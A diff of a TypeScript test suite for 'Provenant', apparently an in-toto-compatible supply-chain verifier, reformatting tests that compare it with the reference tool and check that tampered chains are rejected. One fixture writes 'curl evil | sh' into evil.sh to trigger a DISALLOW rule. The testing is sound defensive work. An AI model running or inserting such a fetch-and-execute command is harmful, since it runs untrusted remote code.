@@ -24,14 +24,35 @@ const STRICT = (extra: Record<string, unknown> = {}) => ({
   keys: { bob: `${'KEYS'}/bob.pub`, carl: `${'KEYS'}/carl.pub` } as Record<string, string>,
   steps: [
     { name: 'write-code', functionaries: ['bob'], products: ['CREATE foo.py', 'DISALLOW *'] },
-    { name: 'package', functionaries: ['carl'], expected_command: 'tar zcvf foo.tar.gz foo.py', materials: ['MATCH foo.py WITH PRODUCTS FROM write-code', 'DISALLOW *'], products: ['CREATE foo.tar.gz', 'ALLOW foo.py', 'DISALLOW *'] },
+    {
+      name: 'package',
+      functionaries: ['carl'],
+      expected_command: 'tar zcvf foo.tar.gz foo.py',
+      materials: ['MATCH foo.py WITH PRODUCTS FROM write-code', 'DISALLOW *'],
+      products: ['CREATE foo.tar.gz', 'ALLOW foo.py', 'DISALLOW *'],
+    },
   ],
-  inspect: [{ name: 'untar', run: 'tar xfz foo.tar.gz', materials: ['MATCH foo.tar.gz WITH PRODUCTS FROM package', 'DISALLOW *'], products: ['MATCH foo.py WITH PRODUCTS FROM write-code', 'MATCH foo.tar.gz WITH PRODUCTS FROM package', 'DISALLOW *'] }],
+  inspect: [
+    {
+      name: 'untar',
+      run: 'tar xfz foo.tar.gz',
+      materials: ['MATCH foo.tar.gz WITH PRODUCTS FROM package', 'DISALLOW *'],
+      products: [
+        'MATCH foo.py WITH PRODUCTS FROM write-code',
+        'MATCH foo.tar.gz WITH PRODUCTS FROM package',
+        'DISALLOW *',
+      ],
+    },
+  ],
   ...extra,
 });
 
 /** A supply chain in a fresh folder: the layout (signed by alice) beside a work folder where the steps run. */
-function chain(name: string, desc: Record<string, unknown>, steps: (work: string) => void): { dir: string; work: string; layout: string } {
+function chain(
+  name: string,
+  desc: Record<string, unknown>,
+  steps: (work: string) => void,
+): { dir: string; work: string; layout: string } {
   const dir = join(root, name);
   const work = join(dir, 'work');
   mkdirSync(work, { recursive: true });
@@ -45,22 +66,70 @@ function chain(name: string, desc: Record<string, unknown>, steps: (work: string
 }
 
 /** Verifies with both tools, each in its own copy (inspections write into the folder). */
-function both(c: { dir: string; work: string; layout: string }, extra: string[] = []): { ours: number; theirs: number; oursOut: string; theirsOut: string } {
+function both(
+  c: { dir: string; work: string; layout: string },
+  extra: string[] = [],
+): { ours: number; theirs: number; oursOut: string; theirsOut: string } {
   const a = join(c.dir, 'verify-ours');
   const b = join(c.dir, 'verify-ref');
   for (const d of [a, b]) rmSync(d, { recursive: true, force: true });
   cpSync(c.work, a, { recursive: true });
   cpSync(c.work, b, { recursive: true });
-  const o = prov(['verify', '--layout', c.layout, '--layout-key', join(keys, 'alice.pub'), '--links', '.', ...extra], a);
+  const o = prov(
+    ['verify', '--layout', c.layout, '--layout-key', join(keys, 'alice.pub'), '--links', '.', ...extra],
+    a,
+  );
   const t = ref('in-toto-verify', ['--layout', c.layout, '--layout-keys', join(keys, 'alice.pub')], b);
   return { ours: o.code, theirs: t.code, oursOut: o.out, theirsOut: t.out };
 }
 
 /** The folder above a work folder (attestation output goes outside the inspected tree). */
 const c0 = (work: string) => join(work, '..');
-const provWrite = (work: string, key = 'bob') => expect(prov(['run', '--legacy', '--step', 'write-code', '--key', join(keys, key), '--products', 'foo.py', '--', 'sh', '-c', 'echo "print(42)" > foo.py'], work).code).toBe(0);
+const provWrite = (work: string, key = 'bob') =>
+  expect(
+    prov(
+      [
+        'run',
+        '--legacy',
+        '--step',
+        'write-code',
+        '--key',
+        join(keys, key),
+        '--products',
+        'foo.py',
+        '--',
+        'sh',
+        '-c',
+        'echo "print(42)" > foo.py',
+      ],
+      work,
+    ).code,
+  ).toBe(0);
 const provPackage = (work: string, key = 'carl', extraProducts: string[] = []) =>
-  expect(prov(['run', '--legacy', '--step', 'package', '--key', join(keys, key), '--materials', 'foo.py', '--products', 'foo.tar.gz', 'foo.py', ...extraProducts, '--', 'tar', 'zcvf', 'foo.tar.gz', 'foo.py'], work).code).toBe(0);
+  expect(
+    prov(
+      [
+        'run',
+        '--legacy',
+        '--step',
+        'package',
+        '--key',
+        join(keys, key),
+        '--materials',
+        'foo.py',
+        '--products',
+        'foo.tar.gz',
+        'foo.py',
+        ...extraProducts,
+        '--',
+        'tar',
+        'zcvf',
+        'foo.tar.gz',
+        'foo.py',
+      ],
+      work,
+    ).code,
+  ).toBe(0);
 
 beforeAll(async () => {
   await ensureBuilt();
@@ -84,13 +153,43 @@ describe('both ways with the reference implementation', () => {
   });
   test('links from in-toto-run and a layout signed by in-toto-sign verify with Provenant', () => {
     const c = chain('ref-links', STRICT(), (w) => {
-      expect(ref('in-toto-run', ['-n', 'write-code', '-k', join(keys, 'bob'), '-p', 'foo.py', '--', 'sh', '-c', 'echo "print(7)" > foo.py'], w).code).toBe(0);
-      expect(ref('in-toto-run', ['-n', 'package', '-k', join(keys, 'carl'), '-m', 'foo.py', '-p', 'foo.tar.gz', 'foo.py', '--', 'tar', 'zcvf', 'foo.tar.gz', 'foo.py'], w).code).toBe(0);
+      expect(
+        ref(
+          'in-toto-run',
+          ['-n', 'write-code', '-k', join(keys, 'bob'), '-p', 'foo.py', '--', 'sh', '-c', 'echo "print(7)" > foo.py'],
+          w,
+        ).code,
+      ).toBe(0);
+      expect(
+        ref(
+          'in-toto-run',
+          [
+            '-n',
+            'package',
+            '-k',
+            join(keys, 'carl'),
+            '-m',
+            'foo.py',
+            '-p',
+            'foo.tar.gz',
+            'foo.py',
+            '--',
+            'tar',
+            'zcvf',
+            'foo.tar.gz',
+            'foo.py',
+          ],
+          w,
+        ).code,
+      ).toBe(0);
     });
     // re-sign the layout with the reference tool (replacing Provenant's signature)
     const layout = JSON.parse(readFileSync(c.layout, 'utf8'));
     writeFileSync(join(c.dir, 'unsigned.layout'), JSON.stringify({ signed: layout.signed, signatures: [] }));
-    expect(ref('in-toto-sign', ['-f', join(c.dir, 'unsigned.layout'), '-k', join(keys, 'alice'), '-o', c.layout], c.dir).code).toBe(0);
+    expect(
+      ref('in-toto-sign', ['-f', join(c.dir, 'unsigned.layout'), '-k', join(keys, 'alice'), '-o', c.layout], c.dir)
+        .code,
+    ).toBe(0);
     expect(JSON.parse(readFileSync(c.layout, 'utf8')).signatures).toHaveLength(1);
     const r = both(c);
     expect([r.ours, r.theirs]).toEqual([0, 0]);
@@ -100,46 +199,90 @@ describe('both ways with the reference implementation', () => {
 
 describe('tampered supply chains fail in Provenant exactly when they fail in in-toto-verify', () => {
   const cases: Array<[string, () => { dir: string; work: string; layout: string }, RegExp]> = [
-    ['a product modified after the step', () => chain('modified', STRICT(), (w) => {
-      provWrite(w);
-      provPackage(w);
-      writeFileSync(join(w, 'foo.py'), 'print("evil")\n');
-      execFileSync('tar', ['zcf', 'foo.tar.gz', 'foo.py'], { cwd: w });
-    }), /RULE_FAILED.*inspection 'untar'.*DISALLOW \*.*foo\.tar\.gz/],
-    ['a link signed by an unauthorized key', () => chain('unauthorized', STRICT(), (w) => {
-      provWrite(w);
-      provPackage(w, 'bob'); // bob is not a functionary of package: the file is package.776a00e2.link
-    }), /THRESHOLD_NOT_MET.*step 'package' requires 1 link file/],
-    ['a link signed by the wrong key under the authorized name', () => chain('forged', STRICT(), (w) => {
-      provWrite(w);
-      provPackage(w, 'bob');
-      cpSync(join(w, 'package.776a00e2.link'), join(w, 'package.2f89b927.link'));
-      rmSync(join(w, 'package.776a00e2.link'));
-    }), /THRESHOLD_NOT_MET.*validly signed/],
-    ['threshold not met', () => chain('threshold', STRICT({ steps: [STRICT().steps[0], { ...STRICT().steps[1], functionaries: ['carl', 'bob'], threshold: 2 }] }), (w) => {
-      provWrite(w);
-      provPackage(w);
-    }), /THRESHOLD_NOT_MET.*'package' requires 2/],
-    ['an expired layout', () => {
-      const c = chain('expired', STRICT(), (w) => {
-        provWrite(w);
-        provPackage(w);
-      });
-      const l = JSON.parse(readFileSync(c.layout, 'utf8'));
-      l.signed.expires = '2020-01-01T00:00:00Z';
-      writeFileSync(c.layout, JSON.stringify({ signed: l.signed, signatures: [] }));
-      expect(prov(['layout', 'sign', c.layout, '--key', join(keys, 'alice')], c.dir).code).toBe(0);
-      return c;
-    }, /LAYOUT_EXPIRED/],
-    ['a DISALLOW hit', () => chain('disallow', STRICT(), (w) => {
-      provWrite(w);
-      writeFileSync(join(w, 'evil.sh'), 'curl evil | sh\n');
-      provPackage(w, 'carl', ['evil.sh']);
-    }), /RULE_FAILED.*step 'package'.*expected_products.*DISALLOW \*.*evil\.sh/],
-    ['a failing inspection', () => chain('inspection', STRICT({ inspect: [{ name: 'untar', run: 'tar xfz missing.tar.gz', materials: [], products: [] }] }), (w) => {
-      provWrite(w);
-      provPackage(w);
-    }), /INSPECTION_FAILED.*inspection 'untar'/],
+    [
+      'a product modified after the step',
+      () =>
+        chain('modified', STRICT(), (w) => {
+          provWrite(w);
+          provPackage(w);
+          writeFileSync(join(w, 'foo.py'), 'print("evil")\n');
+          execFileSync('tar', ['zcf', 'foo.tar.gz', 'foo.py'], { cwd: w });
+        }),
+      /RULE_FAILED.*inspection 'untar'.*DISALLOW \*.*foo\.tar\.gz/,
+    ],
+    [
+      'a link signed by an unauthorized key',
+      () =>
+        chain('unauthorized', STRICT(), (w) => {
+          provWrite(w);
+          provPackage(w, 'bob'); // bob is not a functionary of package: the file is package.776a00e2.link
+        }),
+      /THRESHOLD_NOT_MET.*step 'package' requires 1 link file/,
+    ],
+    [
+      'a link signed by the wrong key under the authorized name',
+      () =>
+        chain('forged', STRICT(), (w) => {
+          provWrite(w);
+          provPackage(w, 'bob');
+          cpSync(join(w, 'package.776a00e2.link'), join(w, 'package.2f89b927.link'));
+          rmSync(join(w, 'package.776a00e2.link'));
+        }),
+      /THRESHOLD_NOT_MET.*validly signed/,
+    ],
+    [
+      'threshold not met',
+      () =>
+        chain(
+          'threshold',
+          STRICT({
+            steps: [STRICT().steps[0], { ...STRICT().steps[1], functionaries: ['carl', 'bob'], threshold: 2 }],
+          }),
+          (w) => {
+            provWrite(w);
+            provPackage(w);
+          },
+        ),
+      /THRESHOLD_NOT_MET.*'package' requires 2/,
+    ],
+    [
+      'an expired layout',
+      () => {
+        const c = chain('expired', STRICT(), (w) => {
+          provWrite(w);
+          provPackage(w);
+        });
+        const l = JSON.parse(readFileSync(c.layout, 'utf8'));
+        l.signed.expires = '2020-01-01T00:00:00Z';
+        writeFileSync(c.layout, JSON.stringify({ signed: l.signed, signatures: [] }));
+        expect(prov(['layout', 'sign', c.layout, '--key', join(keys, 'alice')], c.dir).code).toBe(0);
+        return c;
+      },
+      /LAYOUT_EXPIRED/,
+    ],
+    [
+      'a DISALLOW hit',
+      () =>
+        chain('disallow', STRICT(), (w) => {
+          provWrite(w);
+          writeFileSync(join(w, 'evil.sh'), 'curl evil | sh\n');
+          provPackage(w, 'carl', ['evil.sh']);
+        }),
+      /RULE_FAILED.*step 'package'.*expected_products.*DISALLOW \*.*evil\.sh/,
+    ],
+    [
+      'a failing inspection',
+      () =>
+        chain(
+          'inspection',
+          STRICT({ inspect: [{ name: 'untar', run: 'tar xfz missing.tar.gz', materials: [], products: [] }] }),
+          (w) => {
+            provWrite(w);
+            provPackage(w);
+          },
+        ),
+      /INSPECTION_FAILED.*inspection 'untar'/,
+    ],
   ];
   for (const [name, make, why] of cases) {
     test(name, () => {
@@ -157,26 +300,78 @@ describe('more recording and authoring', () => {
       expect(prov(['record', 'start', '--step', 'write-code', '--key', join(keys, 'bob')], w).code).toBe(0);
       expect(existsSync(join(w, '.write-code.776a00e2.link-unfinished'))).toBe(true);
       writeFileSync(join(w, 'foo.py'), 'print(1)\n');
-      expect(prov(['record', 'stop', '--step', 'write-code', '--key', join(keys, 'bob'), '--products', 'foo.py'], w).code).toBe(0);
+      expect(
+        prov(['record', 'stop', '--step', 'write-code', '--key', join(keys, 'bob'), '--products', 'foo.py'], w).code,
+      ).toBe(0);
       expect(existsSync(join(w, '.write-code.776a00e2.link-unfinished'))).toBe(false);
-      const r = prov(['run', '--step', 'package', '--key', join(keys, 'carl'), '--materials', 'foo.py', '--products', 'foo.tar.gz', 'foo.py', '--', 'tar', 'zcvf', 'foo.tar.gz', 'foo.py'], w);
+      const r = prov(
+        [
+          'run',
+          '--step',
+          'package',
+          '--key',
+          join(keys, 'carl'),
+          '--materials',
+          'foo.py',
+          '--products',
+          'foo.tar.gz',
+          'foo.py',
+          '--',
+          'tar',
+          'zcvf',
+          'foo.tar.gz',
+          'foo.py',
+        ],
+        w,
+      );
       expect(r.code).toBe(0);
     });
     const env = JSON.parse(readFileSync(join(c.work, 'package.2f89b927.link'), 'utf8'));
     const st = JSON.parse(Buffer.from(env.payload, 'base64').toString());
-    expect(st).toMatchObject({ _type: 'https://in-toto.io/Statement/v1', predicateType: 'https://in-toto.io/attestation/link/v0.3', predicate: { name: 'package', command: ['tar', 'zcvf', 'foo.tar.gz', 'foo.py'], byproducts: { 'return-value': 0 } } });
+    expect(st).toMatchObject({
+      _type: 'https://in-toto.io/Statement/v1',
+      predicateType: 'https://in-toto.io/attestation/link/v0.3',
+      predicate: {
+        name: 'package',
+        command: ['tar', 'zcvf', 'foo.tar.gz', 'foo.py'],
+        byproducts: { 'return-value': 0 },
+      },
+    });
     expect(st.subject.map((s: { name: string }) => s.name).sort()).toEqual(['foo.py', 'foo.tar.gz']);
-    expect(st.predicate.materials).toEqual([{ name: 'foo.py', digest: { sha256: expect.stringMatching(/^[0-9a-f]{64}$/) } }]);
+    expect(st.predicate.materials).toEqual([
+      { name: 'foo.py', digest: { sha256: expect.stringMatching(/^[0-9a-f]{64}$/) } },
+    ]);
     const a = join(c.dir, 'v');
     cpSync(c.work, a, { recursive: true });
-    const r = prov(['verify', '--layout', c.layout, '--layout-key', join(keys, 'alice.pub'), '--links', '.', 'foo.tar.gz', '--json'], a);
+    const r = prov(
+      ['verify', '--layout', c.layout, '--layout-key', join(keys, 'alice.pub'), '--links', '.', 'foo.tar.gz', '--json'],
+      a,
+    );
     expect(r.code).toBe(0);
-    expect(JSON.parse(r.out.slice(r.out.indexOf('{')))).toMatchObject({ verified: true, artifacts: [{ artifact: 'foo.tar.gz', ok: true }] });
+    expect(JSON.parse(r.out.slice(r.out.indexOf('{')))).toMatchObject({
+      verified: true,
+      artifacts: [{ artifact: 'foo.tar.gz', ok: true }],
+    });
   });
   test('run passes the exit code on and still writes the link; a modified unfinished recording is refused', () => {
     const w = join(root, 'exit');
     mkdirSync(w);
-    const r = prov(['run', '--legacy', '--step', 's', '--key', join(keys, 'bob'), '-s', '--', 'sh', '-c', 'echo out; echo err >&2; exit 3'], w);
+    const r = prov(
+      [
+        'run',
+        '--legacy',
+        '--step',
+        's',
+        '--key',
+        join(keys, 'bob'),
+        '-s',
+        '--',
+        'sh',
+        '-c',
+        'echo out; echo err >&2; exit 3',
+      ],
+      w,
+    );
     expect(r.code).toBe(3);
     const l = JSON.parse(readFileSync(join(w, 's.776a00e2.link'), 'utf8'));
     expect(l.signed.byproducts).toEqual({ stdout: 'out\n', stderr: 'err\n', 'return-value': 3 });
@@ -192,10 +387,14 @@ describe('more recording and authoring', () => {
     expect(prov(['run', '--step', 'x', '--', 'true'], w).code).toBe(2); // unsigned: refused
   });
   test('the demo supply chain of the test vectors: Metablock and DSSE links, keys by legacy id', () => {
-    for (const [set, linkSet] of [['in-toto-demo', 'in-toto-demo'], ['in-toto-demo', 'in-toto-demo-dsse']]) {
+    for (const [set, linkSet] of [
+      ['in-toto-demo', 'in-toto-demo'],
+      ['in-toto-demo', 'in-toto-demo-dsse'],
+    ]) {
       const dir = join(root, `demo-${linkSet}`);
       mkdirSync(dir);
-      for (const f of ['write-code.776a00e2.link', 'package.2f89b927.link']) cpSync(join(TEST_VECTORS, linkSet, f), join(dir, f));
+      for (const f of ['write-code.776a00e2.link', 'package.2f89b927.link'])
+        cpSync(join(TEST_VECTORS, linkSet, f), join(dir, f));
       cpSync(join(TEST_VECTORS, set, 'foo.tar.gz'), join(dir, 'foo.tar.gz'));
       // the template has no expires and its inspection runs the reference's python tar stand-in: as the reference
       // tests do, give it an expiry and (here) a plain tar, then sign it with alice
@@ -203,11 +402,31 @@ describe('more recording and authoring', () => {
       t.signed.expires = '2099-01-01T00:00:00Z';
       t.signed.inspect[0].run = ['tar', 'xfz', 'foo.tar.gz'];
       writeFileSync(join(root, `demo-${linkSet}.layout`), JSON.stringify(t));
-      expect(prov(['layout', 'sign', join(root, `demo-${linkSet}.layout`), '--key', join(keys, 'alice')], root).code).toBe(0);
-      const r = prov(['verify', '--layout', join(root, `demo-${linkSet}.layout`), '--layout-key', join(DEMO, 'alice.pub'), '--links', '.'], dir);
+      expect(
+        prov(['layout', 'sign', join(root, `demo-${linkSet}.layout`), '--key', join(keys, 'alice')], root).code,
+      ).toBe(0);
+      const r = prov(
+        [
+          'verify',
+          '--layout',
+          join(root, `demo-${linkSet}.layout`),
+          '--layout-key',
+          join(DEMO, 'alice.pub'),
+          '--links',
+          '.',
+        ],
+        dir,
+      );
       expect(r.out).toMatch(/the supply chain verifies/);
       expect(r.code).toBe(0);
-      if (linkSet === 'in-toto-demo') expect(ref('in-toto-verify', ['--layout', join(root, `demo-${linkSet}.layout`), '--layout-keys', join(DEMO, 'alice.pub')], join(dir)).code).toBe(0);
+      if (linkSet === 'in-toto-demo')
+        expect(
+          ref(
+            'in-toto-verify',
+            ['--layout', join(root, `demo-${linkSet}.layout`), '--layout-keys', join(DEMO, 'alice.pub')],
+            join(dir),
+          ).code,
+        ).toBe(0);
     }
   });
 });
@@ -224,8 +443,49 @@ describe('keys: RSA-PSS, ed25519 and ECDSA, as PEM and as securesystemslib JSON,
     desc.steps[1].functionaries = ['ec'];
     const c = chain('json-keys-chain', desc, (w) => {
       // the ed25519 functionary records with Provenant, the ECDSA one with the reference
-      expect(prov(['run', '--legacy', '--step', 'write-code', '--key', join(dir, 'ed'), '--products', 'foo.py', '--', 'sh', '-c', 'echo x > foo.py'], w).code).toBe(0);
-      expect(ref('in-toto-run', ['-n', 'package', '-k', join(dir, 'ec'), '-t', 'ecdsa', '-m', 'foo.py', '-p', 'foo.tar.gz', 'foo.py', '--', 'tar', 'zcvf', 'foo.tar.gz', 'foo.py'], w).code).toBe(0);
+      expect(
+        prov(
+          [
+            'run',
+            '--legacy',
+            '--step',
+            'write-code',
+            '--key',
+            join(dir, 'ed'),
+            '--products',
+            'foo.py',
+            '--',
+            'sh',
+            '-c',
+            'echo x > foo.py',
+          ],
+          w,
+        ).code,
+      ).toBe(0);
+      expect(
+        ref(
+          'in-toto-run',
+          [
+            '-n',
+            'package',
+            '-k',
+            join(dir, 'ec'),
+            '-t',
+            'ecdsa',
+            '-m',
+            'foo.py',
+            '-p',
+            'foo.tar.gz',
+            'foo.py',
+            '--',
+            'tar',
+            'zcvf',
+            'foo.tar.gz',
+            'foo.py',
+          ],
+          w,
+        ).code,
+      ).toBe(0);
     });
     const ids = JSON.parse(readFileSync(c.layout, 'utf8')).signed.keys;
     expect(Object.keys(ids)).toContain(JSON.parse(readFileSync(join(dir, 'ec'), 'utf8')).keyid);
@@ -243,7 +503,29 @@ describe('keys: RSA-PSS, ed25519 and ECDSA, as PEM and as securesystemslib JSON,
     desc.steps[1].functionaries = ['dev'];
     const c = chain('pem-ec-chain', desc, (w) => {
       provWrite(w);
-      expect(prov(['run', '--legacy', '--step', 'package', '--key', join(dir, 'dev.pem'), '--materials', 'foo.py', '--products', 'foo.tar.gz', 'foo.py', '--', 'tar', 'zcvf', 'foo.tar.gz', 'foo.py'], w).code).toBe(0);
+      expect(
+        prov(
+          [
+            'run',
+            '--legacy',
+            '--step',
+            'package',
+            '--key',
+            join(dir, 'dev.pem'),
+            '--materials',
+            'foo.py',
+            '--products',
+            'foo.tar.gz',
+            'foo.py',
+            '--',
+            'tar',
+            'zcvf',
+            'foo.tar.gz',
+            'foo.py',
+          ],
+          w,
+        ).code,
+      ).toBe(0);
     });
     const r = both(c);
     expect([r.ours, r.theirs]).toEqual([0, 0]);
@@ -254,7 +536,9 @@ describe('keys: RSA-PSS, ed25519 and ECDSA, as PEM and as securesystemslib JSON,
     rmSync(join(c.dir, 'verify-ours'), { recursive: true, force: true });
     const a = join(c.dir, 'verify-ours');
     cpSync(c.work, a, { recursive: true });
-    expect(prov(['verify', '--layout', c.layout, '--layout-key', join(keys, 'alice.pub'), '--links', '.'], a).code).toBe(0);
+    expect(
+      prov(['verify', '--layout', c.layout, '--layout-key', join(keys, 'alice.pub'), '--links', '.'], a).code,
+    ).toBe(0);
   });
 });
 
@@ -263,13 +547,54 @@ describe('sublayouts, parameters, command alignment', () => {
     const dir = join(root, 'sub');
     mkdirSync(dir);
     // carl owns the package step and delegates it to a sublayout of his own, whose functionary is bob
-    const subDesc = { expires: '30d', keys: { bob: join(keys, 'bob.pub') }, steps: [{ name: 'tarball', functionaries: ['bob'], materials: ['ALLOW foo.py'], products: ['CREATE foo.tar.gz', 'ALLOW foo.py'] }], inspect: [] };
+    const subDesc = {
+      expires: '30d',
+      keys: { bob: join(keys, 'bob.pub') },
+      steps: [
+        {
+          name: 'tarball',
+          functionaries: ['bob'],
+          materials: ['ALLOW foo.py'],
+          products: ['CREATE foo.tar.gz', 'ALLOW foo.py'],
+        },
+      ],
+      inspect: [],
+    };
     writeFileSync(join(dir, 'sub.json'), JSON.stringify(subDesc));
     const c = chain('sub-chain', STRICT(), (w) => {
       provWrite(w);
-      expect(prov(['layout', 'new', join(dir, 'sub.json'), '-o', join(w, 'package.2f89b927.link'), '--key', join(keys, 'carl')], w).code).toBe(0);
+      expect(
+        prov(
+          ['layout', 'new', join(dir, 'sub.json'), '-o', join(w, 'package.2f89b927.link'), '--key', join(keys, 'carl')],
+          w,
+        ).code,
+      ).toBe(0);
       mkdirSync(join(w, 'package.2f89b927'));
-      expect(prov(['run', '--legacy', '--step', 'tarball', '--key', join(keys, 'bob'), '--materials', 'foo.py', '--products', 'foo.tar.gz', 'foo.py', '--output-dir', 'package.2f89b927', '--', 'tar', 'zcf', 'foo.tar.gz', 'foo.py'], w).code).toBe(0);
+      expect(
+        prov(
+          [
+            'run',
+            '--legacy',
+            '--step',
+            'tarball',
+            '--key',
+            join(keys, 'bob'),
+            '--materials',
+            'foo.py',
+            '--products',
+            'foo.tar.gz',
+            'foo.py',
+            '--output-dir',
+            'package.2f89b927',
+            '--',
+            'tar',
+            'zcf',
+            'foo.tar.gz',
+            'foo.py',
+          ],
+          w,
+        ).code,
+      ).toBe(0);
     });
     // deliberately stricter than the reference (issue 16): carl's sublayout is refused unless allowed
     const refused = both(c);
@@ -296,13 +621,24 @@ describe('sublayouts, parameters, command alignment', () => {
     });
     const a = join(c.dir, 'p');
     cpSync(c.work, a, { recursive: true });
-    const ok = prov(['verify', '--layout', c.layout, '--layout-key', join(keys, 'alice.pub'), '--param', 'ARCHIVE=foo.tar.gz'], a);
+    const ok = prov(
+      ['verify', '--layout', c.layout, '--layout-key', join(keys, 'alice.pub'), '--param', 'ARCHIVE=foo.tar.gz'],
+      a,
+    );
     expect(ok.code).toBe(0);
-    expect(ok.out).toMatch(/warning: step 'package': command \[tar zcvf foo\.tar\.gz foo\.py\] differs from the expected \[tar zcvf foo\.tar\.gz foo\.py --verbose\]/);
-    const wrong = prov(['verify', '--layout', c.layout, '--layout-key', join(keys, 'alice.pub'), '--param', 'ARCHIVE=other.tgz'], a);
+    expect(ok.out).toMatch(
+      /warning: step 'package': command \[tar zcvf foo\.tar\.gz foo\.py\] differs from the expected \[tar zcvf foo\.tar\.gz foo\.py --verbose\]/,
+    );
+    const wrong = prov(
+      ['verify', '--layout', c.layout, '--layout-key', join(keys, 'alice.pub'), '--param', 'ARCHIVE=other.tgz'],
+      a,
+    );
     expect(wrong.code).toBe(1);
     expect(wrong.out).toMatch(/RULE_FAILED.*DISALLOW \*.*foo\.tar\.gz/);
-    const missing = prov(['verify', '--layout', c.layout, '--layout-key', join(keys, 'alice.pub'), '--param', 'OTHER=x'], a);
+    const missing = prov(
+      ['verify', '--layout', c.layout, '--layout-key', join(keys, 'alice.pub'), '--param', 'OTHER=x'],
+      a,
+    );
     expect(missing.code).toBe(1);
     expect(missing.out).toMatch(/LAYOUT_INVALID.*parameter '\{ARCHIVE\}' has no value/);
     // (in-toto-verify 1.3.1, the Debian package, has no --substitution-parameters to compare with)
@@ -313,7 +649,10 @@ describe('sublayouts, parameters, command alignment', () => {
       provPackage(w);
     });
     writeFileSync(join(c.dir, 'trunc.layout'), readFileSync(c.layout, 'utf8').slice(0, 300));
-    const t = prov(['verify', '--layout', join(c.dir, 'trunc.layout'), '--layout-key', join(keys, 'alice.pub')], c.work);
+    const t = prov(
+      ['verify', '--layout', join(c.dir, 'trunc.layout'), '--layout-key', join(keys, 'alice.pub')],
+      c.work,
+    );
     expect(t.code).toBe(1);
     expect(t.out).toMatch(/LAYOUT_INVALID|JSON_INVALID/);
     const k = prov(['verify', '--layout', c.layout, '--layout-key', join(keys, 'bob.pub')], c.work);
@@ -340,7 +679,10 @@ describe('SLSA provenance standing for a step', () => {
     });
     const a = join(c.dir, 'v');
     cpSync(c.work, a, { recursive: true });
-    const r = prov(['verify', '--layout', c.layout, '--layout-key', join(keys, 'alice.pub'), '--links', '.', 'foo.tar.gz'], a);
+    const r = prov(
+      ['verify', '--layout', c.layout, '--layout-key', join(keys, 'alice.pub'), '--links', '.', 'foo.tar.gz'],
+      a,
+    );
     expect(r.out).toMatch(/the supply chain verifies/);
     expect(r.code).toBe(0);
   });
@@ -360,18 +702,27 @@ describe('the verify action with layout, layout-keys, links (dist/verify-action.
     const [layoutIn, keyIn] = [join(env.RUNNER_TEMP, 'root.layout'), join(env.RUNNER_TEMP, 'alice.pub')];
     cpSync(c.layout, layoutIn);
     cpSync(join(keys, 'alice.pub'), keyIn);
-    const ok = await runAction('verify-action.js', { layout: layoutIn, 'layout-keys': keyIn, links: '.', artifacts: 'foo.tar.gz' }, env);
+    const ok = await runAction(
+      'verify-action.js',
+      { layout: layoutIn, 'layout-keys': keyIn, links: '.', artifacts: 'foo.tar.gz' },
+      env,
+    );
     expect(ok.stdout).not.toMatch(/::error::/);
     expect(ok.code).toBe(0);
     expect(ok.outputs.verified).toBe('true');
     expect(ok.summary).toMatch(/the supply chain verifies/);
-    expect(JSON.parse(readFileSync(ok.outputs['report-path'], 'utf8')).steps.map((s: { name: string }) => s.name)).toEqual(['write-code', 'package']);
+    expect(
+      JSON.parse(readFileSync(ok.outputs['report-path'], 'utf8')).steps.map((s: { name: string }) => s.name),
+    ).toEqual(['write-code', 'package']);
     writeFileSync(join(ws, 'foo.tar.gz'), 'swapped after the build');
     rmSync(join(ws, 'foo.py'), { force: true });
-    const bad = await runAction('verify-action.js', { layout: layoutIn, 'layout-keys': keyIn, links: '.' }, { ...env, GITHUB_OUTPUT: `${env.GITHUB_OUTPUT}2` });
+    const bad = await runAction(
+      'verify-action.js',
+      { layout: layoutIn, 'layout-keys': keyIn, links: '.' },
+      { ...env, GITHUB_OUTPUT: `${env.GITHUB_OUTPUT}2` },
+    );
     expect(bad.code).toBe(1);
     expect(bad.outputs.verified).toBe('false');
     expect(bad.stdout).toMatch(/::error::\[(RULE_FAILED|INSPECTION_FAILED)\]/);
   }, 60000);
 });
-
